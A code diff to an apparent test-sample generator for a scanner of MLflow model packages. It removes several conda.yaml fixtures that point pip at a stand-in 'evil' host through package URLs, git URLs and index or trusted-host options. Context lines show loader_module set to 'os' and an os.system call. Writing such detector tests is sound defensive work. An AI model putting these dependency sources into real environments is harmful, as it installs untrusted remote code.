@@ -109,23 +109,7 @@ def _mlflow() -> Iterator[Sample]:
             "m/script.py": b"import os\nos.system('true')\n",
         },
     )
-    conda = {
-        "pip url": "dependencies:\n- python=3.11\n- pip:\n  - http://127.0.0.1/evil-1.0.tar.gz\n",
-        "git url": "dependencies:\n- pip:\n  - git+http://127.0.0.1/evil.git\n",
-        "index": "dependencies:\n- pip:\n  - --index-url http://127.0.0.1/\n  - evil\n",
-        "extra index": "dependencies:\n- pip:\n  - --extra-index-url=http://127.0.0.1/\n  - evil\n",
-        "trusted host": "dependencies:\n- pip:\n  - --trusted-host 127.0.0.1\n  - --find-links http://127.0.0.1/\n",
-    }
-    for name, text in conda.items():
-        yield Sample(
-            family,
-            f"conda, {name}",
-            "the environment is installed from there",
-            {
-                "m/MLmodel": mlmodel("    loader_module: mlflow.sklearn\n    env: conda.yaml\n"),
-                "m/conda.yaml": text.encode(),
-            },
-        )
+    # Where the environment is installed from is for the check of dependencies, which reads conda.yaml.
     for name, extra in {
         "loader in json": b'{"flavors": {"python_function": {"loader_module": "os"}}}',
         "quoted": b'flavors:\n  python_function: {"loader_module": "os"}\nmodel_uuid: a\n',
